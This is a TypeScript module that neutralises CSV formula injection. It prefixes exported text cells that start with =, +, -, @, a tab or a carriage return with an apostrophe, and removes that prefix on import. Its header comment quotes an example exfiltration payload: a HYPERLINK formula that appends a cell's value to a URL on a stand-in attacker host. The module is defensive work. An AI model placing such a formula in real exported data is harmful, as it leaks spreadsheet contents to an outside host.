// CSV injection (formula injection): a spreadsheet opening an exported CSV runs a cell that starts
// with =, +, -, @ (or a tab or carriage return before one) as a formula, e.g.
// `=HYPERLINK("https://evil.example?"&A1,"Click")`. Every text cell the app exports goes through
// `neutraliseCell`, which prefixes such a cell with an apostrophe (OWASP's advice): the spreadsheet
// shows the text as typed, and the apostrophe tells a reader the cell was neutralised. Numbers the
// app itself computes (counts, amounts) are not text cells and are written as they are.
// One module for every CSV the app writes (codes, members, audit log) and reads back (imports).

/** The characters that make a spreadsheet treat a cell as a formula (or hide one behind them). */
export const FORMULA_TRIGGERS = ["=", "+", "-", "@", "\t", "\r"] as const;

export function isFormulaLike(value: string): boolean {
  return value.length > 0 && (FORMULA_TRIGGERS as readonly string[]).includes(value[0]!);
}

/** A text cell safe to open in a spreadsheet; null and undefined become an empty cell. */
export function neutraliseCell(value: string | null | undefined): string {
  if (value === null || value === undefined) return "";
  return isFormulaLike(value) ? `'${value}` : value;
}

/** A neutralised cell read back from a CSV the app wrote: the apostrophe it added is dropped. */
export function restoreCell(value: string): string {
  return value.startsWith("'") && isFormulaLike(value.slice(1)) ? value.slice(1) : value;
}
